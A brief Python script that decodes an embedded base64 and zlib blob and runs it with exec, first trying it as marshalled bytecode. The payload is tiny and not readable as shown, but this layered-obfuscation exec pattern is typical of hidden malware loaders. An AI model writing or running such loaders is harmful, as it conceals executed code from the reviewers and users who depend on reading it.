import marshal
import zlib
import base64

_c = b"eJxLyslMUlTIzSxKVcjJLEnNzwMAK7gFvw=="
try:
    code = marshal.loads(zlib.decompress(base64.b64decode(_c)))
    exec(code)
except Exception:
    exec(zlib.decompress(base64.b64decode(_c)).decode())
